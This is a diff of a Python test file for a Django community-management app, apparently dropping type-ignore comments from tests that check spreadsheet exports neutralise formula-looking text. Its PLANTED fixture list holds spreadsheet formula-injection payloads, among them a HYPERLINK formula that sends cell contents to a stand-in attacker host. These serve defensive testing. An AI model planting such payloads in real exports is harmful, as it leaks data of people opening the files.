@@ -13,7 +13,7 @@ from shequ.testing.world import BOB_UNIT, World
 PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1", "-1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]
 
 
-def _cells(data: bytes) -> list:  # type: ignore[type-arg]
+def _cells(data: bytes) -> list:
     book_ = load_workbook(io.BytesIO(data))
     return [cell for sheet in book_.worksheets for row in sheet.iter_rows() for cell in row]
 
@@ -38,7 +38,7 @@ def test_it_writes_text_that_looks_like_a_formula_as_text() -> None:
 
 
 @pytest.mark.django_db
-def test_it_exports_the_register_with_planted_addresses_as_text(world: World, login) -> None:  # type: ignore[no-untyped-def]
+def test_it_exports_the_register_with_planted_addresses_as_text(world: World, login) -> None:
     from people.models import Resident
 
     import_rows([person(n) for n in range(1, len(PLANTED) + 1)])
@@ -72,7 +72,7 @@ def test_it_writes_the_import_error_report_with_planted_values_as_text(world: Wo
 
 
 @pytest.mark.django_db
-def test_it_exports_facilities_and_points_with_planted_names_as_text(world: World, login) -> None:  # type: ignore[no-untyped-def]
+def test_it_exports_facilities_and_points_with_planted_names_as_text(world: World, login) -> None:
     for text in PLANTED:
         facility(BOB_UNIT, text)
         point(BOB_UNIT, text)
@@ -82,7 +82,7 @@ def test_it_exports_facilities_and_points_with_planted_names_as_text(world: Worl
 
 
 @pytest.mark.django_db
-def test_it_exports_workers_with_planted_names_as_text(world: World, login) -> None:  # type: ignore[no-untyped-def]
+def test_it_exports_workers_with_planted_names_as_text(world: World, login) -> None:
     from workforce.tests.factories import worker
 
     for text in PLANTED:
@@ -93,7 +93,7 @@ def test_it_exports_workers_with_planted_names_as_text(world: World, login) -> N
 
 
 @pytest.mark.django_db
-def test_it_exports_disaster_officers_with_planted_names_as_text(world: World, login) -> None:  # type: ignore[no-untyped-def]
+def test_it_exports_disaster_officers_with_planted_names_as_text(world: World, login) -> None:
     import datetime as dt
 
     from care.models import DisasterOfficer
